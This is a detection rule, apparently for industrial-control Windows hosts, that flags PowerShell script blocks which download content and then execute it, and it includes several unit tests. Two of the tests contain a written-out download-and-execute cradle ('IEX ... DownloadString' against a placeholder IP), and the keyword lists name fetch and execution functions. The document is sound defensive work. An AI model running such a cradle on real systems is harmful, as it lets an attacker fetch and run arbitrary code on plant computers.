# A plant computer fetches no programs from the internet.
rule powershell_download {
    meta {
        id = "OT-WINDOWS-0009"
        sid = 9300009
        rev = 1
        severity = high
        attack = [ics.T0853, ics.T0867, enterprise.T1105]
        description = "A script block fetches something and runs it"
        falsepositives = "installation scripts of administrators"
    }
    on script as e
    where e.op == block
        and e.text contains any i{
            "downloadstring", "downloadfile", "downloaddata", "invoke-webrequest",
            "invoke-restmethod", "start-bitstransfer"
        }
        and e.text contains any i{
            "invoke-expression", "iex", "start-process", "frombase64string"
        }
    dedup by (e.host.name, e.id) for 1h
    emit {
        title = "PowerShell fetches and runs something on {e.host.name}"
        evidence = [e.text, e.path, e.user]
    }

    test "as it is seen" {
        at 0s script {
            host.name: "HMI-1", op: block,
            text: "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
            id: "1"
        }
        expect match
    }

    test "only a command" {
        at 0s script {
            host.name: "HMI-1", op: command,
            text: "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
            id: "1"
        }
        expect none
    }

    test "nothing is fetched" {
        at 0s script { host.name: "HMI-1", op: block, text: "IEX $env:setup", id: "1" }
        expect none
    }

    test "nothing is run" {
        at 0s script {
            host.name: "HMI-1", op: block,
            text: "Invoke-WebRequest http://historian/status", id: "1"
        }
        expect none
    }
}
